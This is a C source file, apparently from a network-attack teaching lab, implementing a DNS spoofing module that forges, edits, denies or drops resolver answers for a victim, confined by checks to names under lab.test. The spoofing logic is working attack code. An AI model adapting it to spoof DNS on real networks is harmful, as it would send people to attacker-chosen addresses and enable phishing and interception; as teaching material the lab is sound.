/* SPDX-License-Identifier: MIT
 *
 * dns-answer: whoever stands between a victim and its resolver says where a
 * name leads. Plain DNS carries no proof of who answered: the id, the port and
 * the question are all that an answer must match, and who sees the question
 * has them. It can speak in the resolver's place, change what the resolver
 * says, deny the name, or say nothing at all. */
#include "attacks/attack.h"
#include "certs/ca.h"
#include "proxy/base/dial.h"
#include "proxy/dns.h"

#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

enum { TTL_MOST = 86400 };

enum how { HOW_ANSWER, HOW_EDIT, HOW_NXDOMAIN, HOW_DROP };
static const char *const how_words[] = {"answer", "edit", "nxdomain", "drop"};

struct lie {
    enum how how;
    const char *name;
    uint8_t address[16];
    size_t address_len;
    uint16_t type; /* that the address is of */
    uint32_t ttl;
};

static enum hook_act answer(const struct lie *lie, struct dns_talk *talk)
{
    const struct dns_given given = {.type = lie->type,
                                    .ttl = lie->ttl,
                                    .data = lie->address,
                                    .len = lie->address_len};
    bool denies = lie->how == HOW_NXDOMAIN;
    /* Of the other family there is nothing: else the victim would take the
     * true address. */
    bool fits = !denies && talk->asked->type == lie->type;
    if (dns_write_answer(talk->answer, talk->query, talk->asked,
                         denies ? DNS_NXDOMAIN : DNS_NOERROR, &given, fits))
        return HOOK_CUT;
    return HOOK_ANSWER;
}

/* Every address of this family in what the resolver said. */
static enum hook_act edit(const struct lie *lie, const struct dns_talk *talk)
{
    struct buf *message = talk->answer;
    uint8_t *bytes = buf_head(message);
    struct dns_record record;
    size_t at = talk->asked->question_end;
    bool changed = false;
    for (unsigned i = 0; dns_next(bytes, buf_len(message), i, &at, &record);
         i++) {
        if (!record.answers ||
            dns_put_address(bytes, &record, lie->address, lie->address_len))
            continue;
        dns_put_ttl(bytes, &record, lie->ttl);
        changed = true;
    }
    return changed ? HOOK_CHANGED : HOOK_PASS;
}

static enum hook_act on_dns(void *config, struct flow *flow,
                            struct dns_talk *talk)
{
    const struct lie *lie = config;
    bool asked = !buf_len(talk->answer);
    enum hook_act act = HOOK_PASS;
    if (strcasecmp(talk->asked->name, lie->name))
        return HOOK_PASS;
    if (lie->how == HOW_EDIT)
        act = asked ? HOOK_PASS : edit(lie, talk);
    else if (asked)
        act = lie->how == HOW_DROP ? HOOK_CUT : answer(lie, talk);
    if (act == HOOK_PASS)
        return act;
    struct event_where where = flow_where(flow, LEG_VICTIM);
    event("dns.lie", &where, "\"how\":\"%s\",\"name\":%s", how_words[lie->how],
          event_text(lie->name, strlen(lie->name), 256));
    return act;
}

static int take_address(struct lie *lie, const char *text, struct err *err)
{
    union address address = {0};
    struct err ignored = ERR_INIT;
    if (!text && (lie->how == HOW_NXDOMAIN || lie->how == HOW_DROP))
        return 0;
    bool v6 = text && strchr(text, ':');
    void *bytes =
        v6 ? (void *)&address.v6.sin6_addr : (void *)&address.v4.sin_addr;
    address.any.sa_family = v6 ? AF_INET6 : AF_INET;
    if (!text || inet_pton(address.any.sa_family, text, bytes) != 1) {
        err_code(err, EXIT_USAGE,
                 "dns-answer: address=%s is no address, such as 127.66.1.2",
                 text ? text : "");
        return -1;
    }
    if (dial_check(&address, &ignored)) {
        err_code(err, EXIT_CONTAINMENT, "dns-answer: %s", ignored.text);
        return -1;
    }
    lie->type = v6 ? DNS_AAAA : DNS_A;
    lie->address_len = v6 ? 16 : 4;
    memcpy(lie->address, bytes, lie->address_len);
    return 0;
}

static int take_ttl(struct lie *lie, const char *text, struct err *err)
{
    char *end;
    long ttl = strtol(text, &end, 10);
    lie->ttl = (uint32_t)ttl;
    if (*text && !*end && ttl >= 0 && ttl <= TTL_MOST)
        return 0;
    err_code(err, EXIT_USAGE, "dns-answer: ttl=%s is not 0 to %d seconds", text,
             TTL_MOST);
    return -1;
}

static int start(struct attack_run *run, struct err *err)
{
    struct lie *lie = arena_alloc(&run->arena, sizeof *lie);
    struct in6_addr number;
    if (!lie) {
        err_set(err, "dns-answer: out of memory");
        return -1;
    }
    lie->name = attack_value(run, "name");
    while (!attack_value_is(run, "how", how_words[lie->how]))
        lie->how++;
    if (!ca_may_name(lie->name) ||
        inet_pton(AF_INET, lie->name, &number) == 1 ||
        inet_pton(AF_INET6, lie->name, &number) == 1) {
        err_code(err, EXIT_CONTAINMENT,
                 "dns-answer: name=%s is outside the lab; only names under "
                 "lab.test can be answered for",
                 lie->name);
        return -1;
    }
    if (take_address(lie, attack_value(run, "address"), err) ||
        take_ttl(lie, attack_value(run, "ttl"), err))
        return -1;
    run->hook.config = lie;
    run->hook.on_dns = on_dns;
    return 0;
}

static const struct attack_param params[] = {
    {"name", "NAME", NULL, "whose address is asked for, such as bank.lab.test",
     true},
    {"address", "ADDRESS", NULL, "where the victim is sent", false},
    {"how", "answer|edit|nxdomain|drop", "answer",
     "speak in the resolver's place, change what it says, deny the name, or "
     "keep silent",
     false},
    {"ttl", "SECONDS", "60", "how long the victim is to believe it", false},
    {NULL, NULL, NULL, NULL, false},
};

const struct attack attack_dns_answer = {
    .name = "dns-answer",
    .teaches =
        "A name leads where the first answer says, and nobody signed it.",
    .kind = ATTACK_HOOK,
    .params = params,
    .start = start,
};
